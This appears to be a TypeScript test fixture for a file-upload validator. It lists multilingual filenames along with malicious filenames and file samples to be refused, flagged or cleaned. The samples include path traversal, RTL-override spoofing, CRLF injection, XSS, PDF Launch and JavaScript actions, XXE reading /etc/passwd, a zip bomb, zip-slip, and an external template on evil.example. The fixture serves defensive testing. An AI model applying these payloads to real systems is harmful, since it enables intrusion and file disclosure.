import { compound, docx, pdf, photo, zip } from '#platform/server/files/samples.fixture.ts'

/** Words of many scripts and spellings, and such that something might take for more than a word. */
export const words = [
  'CV José',
  'Zoë Brontë',
  'Müller Vertrag',
  'Łukasz umowa',
  'Ærø ß',
  'Siân P45',
  'O’Brien',
  "Sun'><img src=x onerror=alert(1)>set",
  '简历',
  '履歴書',
  '이력서',
  'سيرة ذاتية',
  'قرارداد می\u200cخواهم',
  'קורות חיים',
  'βιογραφικό',
  'резюме',
  'рéсумé',
  'जीवनी क्\u200dष',
  'ประวัติย่อ',
  'ជីវប្រវត្តិ',
  'ავტობიოგრაფია',
  'Ինքնակենսագրություն',
  'ታሪክ',
  'ದಾಖಲೆ',
  'தகுதி',
  'తెలుగు',
  'മലയാളം',
  'ਪੰਜਾਬੀ',
  '👩‍⚕️ shift',
  '🏴 plan',
  '❤️ card',
  'a+b',
  'a%20b',
  '100%',
  'x;y',
  'x.exe',
  'a"b',
  '-rf',
  '#1 &c',
  '{name}',
  '$HOME',
  '`id`',
  'a=b',
  '(copy) [2]',
  '葛\u{e0100}城',
  'tiếng Việt',
  'Ģirts Šķēle',
  'ñandú',
  'İstanbul ı',
  'ﬁne',
  '𝒞ursive',
  '𠮷野',
  'ⅷ',
  '½ day',
  '№ 5',
  'a  b',
  '~tilde~',
  'semi:colon',
  'what?',
  'star*',
  '<b>',
  '\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f} leave',
  'അവന്\u200d',
  'ᠮᠣᠩᠭᠣᠯ\u180b',
  '1\ufe0f\u20e3 first',
  '👨‍👩‍👧 leave',
]

const endings = ['.pdf', ' 2026.pdf', '.signed.pdf', ' (1).PDF', ', final.Pdf']
/** 300 names that are all to be kept exactly. */
export const manyNames = words.flatMap((word) => endings.map((ending) => word + ending)).slice(0, 300)

/** Names that cannot be kept or shown safely, or promise what is not stored. */
export const refusedNames: readonly (readonly [title: string, name: string])[] = [
  ['FN-001 a way up', '../../etc/passwd.pdf'],
  ['FN-004 dots and slashes', '....//x.pdf'],
  ['FN-007 NUL', 'a\u0000.exe.pdf'],
  ['FN-008 turned round', 'invoice\u202efdp.exe.pdf'],
  ['FN-009 a device', 'con.pdf'],
  ['FN-010 a device', 'aux.docx'],
  ['a device with a number', 'COM1.final.pdf'],
  ['FN-011 nothing before its ending', '.pdf'],
  ['FN-012 a dot at the end', 'x.pdf.'],
  ['FN-013 a space at the end', 'x.pdf '],
  ['a space at the start', ' x.pdf'],
  ['FN-016 a line end', 'a\r\nSet-Cookie: x=1.pdf'],
  ['FN-018 a second ending behind a semicolon', 'x.pdf;.html'],
  ['FN-020 a program', 'x.pdf.exe'],
  ['FN-028 a space that is not seen', 'a\u200b.pdf'],
  ['FN-037 an address', 'file:///etc/passwd.pdf'],
  ['FN-039 no ending', 'x'],
  ['FN-040 svg', 'x.svg'],
  ['FN-041 html', 'x.html'],
  ['FN-042 a macro document', 'x.docm'],
  ['FN-043 heic', 'x.heic'],
  ['FN-044 a slash at the end', 'x.pdf/'],
  ['FN-045 a folder', 'a/b/c.pdf'],
  ['FN-046 256 bytes', `${'n'.repeat(252)}.pdf`],
  ['256 bytes in few letters', `${'葛'.repeat(84)}.pdf`],
  ['a joiner where nothing is joined', 'a\u200db.pdf'],
  ['two dots at the start', '..x.pdf'],
  ['a backslash', 'a\\b.pdf'],
  ['U+2028', 'a\u2028b.pdf'],
  ['a byte order mark', '\ufeffx.pdf'],
  ['C1', 'a\u0085b.pdf'],
  ['an isolate', 'a\u2066b\u2069.pdf'],
  ['a stream of a file', 'x.pdf::$DATA'],
  ['an ending in full width', 'x\uff0epdf'],
  ['a letter that is not seen', 'a\u3164.pdf'],
  ['tags without a flag', 'a\u{e0067}\u{e0062}\u{e007f}.pdf'],
]

/** Odd, safe, and kept as they are. */
export const keptNames: readonly (readonly [title: string, name: string])[] = [
  ['FN-003 numbers of letters', '%2e%2e%2fx.pdf'],
  ['FN-015 a dash', '-rf.pdf'],
  ['FN-017 quotes', 'a"; filename="evil.html.pdf'],
  ['FN-019 an ending in capitals', 'x.PDF'],
  ['FN-021 a program’s ending before', 'x.exe.pdf'],
  ['FN-031 markup', '<img src=x onerror=alert(1)>.pdf'],
  ['FN-036 a plus', 'a+b.pdf'],
  ['FN-046 255 bytes', `${'n'.repeat(251)}.pdf`],
  ['a word like a device', 'console.pdf'],
  ['quotes and a backslash’s look', 'a‘b’＼.pdf'],
]

const html = Buffer.from(`<html><script>alert(1)</script>${' '.repeat(600)}</html>`)
const jpeg = await photo()
const png = await photo({ format: 'png' })
const part = (name: string, content: string | Buffer = 'x', more = {}) => ({ name, content, ...more })
const relations = (type: string) =>
  part(
    'word/_rels/settings.xml.rels',
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
  )
const nested = (levels: number): Buffer => (levels === 0 ? Buffer.from('x') : zip([part('a.zip', nested(levels - 1))]))
/** A JPEG with script where its remark is. */
export const jpegWithScript = Buffer.concat([
  jpeg.subarray(0, 2),
  Buffer.from('fffe0020', 'hex'),
  Buffer.from('<script>alert(1)</script>12345'),
  jpeg.subarray(2),
])

/** Files that are not what their name says, or that act where they are opened: '{file}: bad format'. */
export const refusedFiles: readonly (readonly [title: string, name: string, bytes: Buffer])[] = [
  ['FC-001 HTML', 'html-as.pdf', html],
  ['FC-002 a PDF mark, then HTML', 'pdf-header-then-html.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), html])],
  ['FC-003 HTML, then a PDF', 'html-then-pdf-at-500.pdf', Buffer.concat([html.subarray(0, 500), pdf()])],
  ['FC-005 a PDF that starts a program', 'pdf-launch.pdf', pdf({ objects: '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n' })],
  ['FC-007 a PNG mark, then HTML', 'png-header-html.png', Buffer.concat([png.subarray(0, 8), html])],
  ['FC-009 SVG', 'svg-as.png', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${' '.repeat(60)}</svg>`)],
  ['FC-010 GIF', 'gif-js.jpg', Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(64), Buffer.from('*/=1;alert(1)')])],
  ['FC-011 a macro document', 'docm-as.docx', docx({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' })],
  ['FC-011 a document with a macro part', 'macro-part.docx', docx({ more: [part('word/vbaProject.bin')] })],
  [
    'FC-014 an entity from elsewhere',
    'docx-xxe.docx',
    docx({ document: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>' }),
  ],
  [
    'FC-015 entities in entities',
    'docx-billion-laughs.docx',
    docx({ more: [part('word/styles.xml', '<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>')] }),
  ],
  [
    'FC-016 little that unpacks to much',
    'docx-zipbomb.docx',
    docx({ more: [part('word/big.xml', Buffer.alloc(20_000_000), { pack: true })] }),
  ],
  ['FC-018 a member that leads out', 'docx-zipslip.docx', docx({ more: [part('../../x')] })],
  [
    'FC-019 a member that is a link',
    'docx-symlink.docx',
    docx({ more: [part('word/link', '/etc/passwd', { attributes: 0o120777 << 16 })] }),
  ],
  ['FC-020 a zip in a zip, five deep', 'docx-nested-zip.docx', docx({ more: [part('word/inner.zip', nested(5))] })],
  [
    'FC-025 the scanners’ test text',
    'eicar.pdf',
    Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')),
  ],
  ['FC-029 a workbook', 'xlsx-as.docx', docx({ type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' })],
  ['FC-031 nothing', 'e.pdf', Buffer.alloc(0)],
  ['half a picture', 'half.jpg', jpeg.subarray(0, jpeg.length - 40)],
  ['a picture under the other’s name', 'png-as.jpg', png],
  ['an installer', 'setup.doc', compound(['Root Entry', '\u0005SummaryInformation', '\u4840\u3b3f'])],
]

/** Files that are kept, and that a browser is never made to show: what is found in them is said. */
export const markedFiles: readonly (readonly [title: string, name: string, bytes: Buffer, marks: readonly string[]])[] = [
  [
    'FC-004 a PDF with a script',
    'pdf-js.pdf',
    pdf({ objects: '5 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n' }),
    ['script'],
  ],
  ['FC-013 a template from elsewhere', 'docx-external-template.docx', docx({ more: [relations('attachedTemplate')] }), ['external-links']],
  ['FC-021 D5 an old document with macros', 'doc-ole-macro.doc', compound(['Root Entry', 'WordDocument', 'Macros', 'VBA']), ['macros']],
  ['FC-024 a document with a password', 'encrypted.docx', compound(['Root Entry', 'EncryptionInfo', 'EncryptedPackage']), ['encrypted']],
  ['a plain document', 'ok.docx', docx(), []],
]

/** Pictures that lose what was added to them. */
export const cleanedPictures: readonly (readonly [title: string, name: string, bytes: Buffer, gone: string])[] = [
  ['FC-028 the place it was taken', 'exif-gps.jpg', jpeg, 'private remark'],
  ['FC-028 the place it was taken', 'exif-gps.png', png, 'private remark'],
  ['FC-008 script in a remark', 'jpeg-comment-html.jpg', jpegWithScript, '<script>'],
  ['script behind the picture', 'tail.png', Buffer.concat([png, Buffer.from('<script>alert(1)</script>')]), '<script>'],
]
